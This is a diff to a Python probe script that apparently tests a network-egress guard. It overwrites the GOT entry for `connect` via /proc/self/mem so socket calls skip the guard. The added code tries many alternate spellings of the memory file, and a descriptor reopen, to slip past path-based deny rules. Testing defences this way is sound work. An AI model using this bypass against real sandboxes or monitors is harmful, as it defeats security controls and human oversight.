@@ -4,7 +4,9 @@ A process may always write its own memory through /proc/self/mem, whatever the p
 with FOLL_FORCE: read-only relocations, RELRO, included). The program reads the ELF files it runs from (the Python
 executable, whose built-in _socket module calls connect through its GOT, and libc.so.6), finds the GOT slot of
 `connect` and libc's own `connect`, and writes the latter into the former: from then on socket.connect() reaches libc
-without passing the guard. Then it requests http://DENIED:8080/procmem-got and prints one JSON line.
+without passing the guard. It tries every spelling of its memory file (/proc/self/mem, /proc/<pid>/mem,
+/proc/thread-self/mem, /proc/<pid>/task/<tid>/mem, a symlink, a read-only descriptor re-opened through
+/proc/self/fd). Then it requests http://DENIED:8080/procmem-got and prints one JSON line.
 argv: <denied-ip> <allowed-ip>
 """
 
@@ -16,6 +18,7 @@ import os
 import platform
 import struct
 import sys
+import threading
 import urllib.request
 
 SHT_RELA, SHT_DYNSYM = 4, 11
@@ -95,16 +98,48 @@ def libc_function(symbol: str) -> int:
     return base_of(path) + value
 
 
+def spellings() -> list[str]:
+    """Every way this program can name its own memory file."""
+    pid, tid = os.getpid(), threading.get_native_id()
+    link = f"/tmp/procmem-link-{pid}"
+    with contextlib.suppress(OSError):
+        os.symlink("/proc/self/mem", link)
+    return ["/proc/self/mem", f"/proc/{pid}/mem", "/proc/thread-self/mem", f"/proc/{pid}/task/{tid}/mem", link]
+
+
+def open_mem() -> tuple[int | None, dict[str, str]]:
+    """A descriptor of this process's memory open for writing, if any spelling gets one; what each got."""
+    got: dict[str, str] = {}
+    for path in spellings():
+        try:
+            fd = os.open(path, os.O_RDWR)
+        except OSError as e:
+            got[path] = os.strerror(e.errno) if e.errno else type(e).__name__
+            continue
+        got[path] = "opened"
+        return fd, got
+    # a read-only descriptor, re-opened for writing through /proc/self/fd
+    try:
+        ro = os.open("/proc/self/mem", os.O_RDONLY)
+        fd = os.open(f"/proc/self/fd/{ro}", os.O_RDWR)
+        got["reopen"] = "opened"
+        return fd, got
+    except OSError as e:
+        got["reopen"] = os.strerror(e.errno) if e.errno else type(e).__name__
+    return None, got
+
+
 def main() -> None:
     denied, allowed = sys.argv[1], sys.argv[2]
     exe = os.path.realpath("/proc/self/exe")
     slots = got_slots(exe, "connect")
     target = libc_function("connect")
-    with open("/proc/self/mem", "r+b", buffering=0) as mem:
+    fd, got = open_mem()
+    out: dict[str, object] = {"slots": len(slots), "opens": got}
+    if fd is not None:
         for slot in slots:
-            mem.seek(slot)
-            mem.write(struct.pack("<Q", target))
-    out: dict[str, object] = {"slots": len(slots)}
+            os.pwrite(fd, struct.pack("<Q", target), slot)
+        os.close(fd)
     try:
         with urllib.request.urlopen(f"http://{denied}:8080/procmem-got", timeout=5) as res:
             out["status"] = res.status
